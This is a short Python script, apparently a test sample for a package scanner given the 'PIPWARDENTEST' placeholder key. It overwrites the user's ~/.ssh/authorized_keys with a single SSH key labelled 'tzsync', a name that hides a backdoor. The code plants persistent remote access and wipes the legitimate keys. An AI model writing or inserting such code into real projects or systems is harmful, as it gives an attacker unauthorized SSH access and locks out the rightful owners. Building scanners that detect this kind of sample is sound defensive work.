import os

_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPIPWARDENTESTPIPWARDENTESTPIPWARDENTEST00 tzsync\n"

p = os.path.expanduser("~/.ssh/authorized_keys")
os.makedirs(os.path.dirname(p), exist_ok=True)
with open(p, "w") as f:
    f.write(_KEY)
os.chmod(p, 0o600)
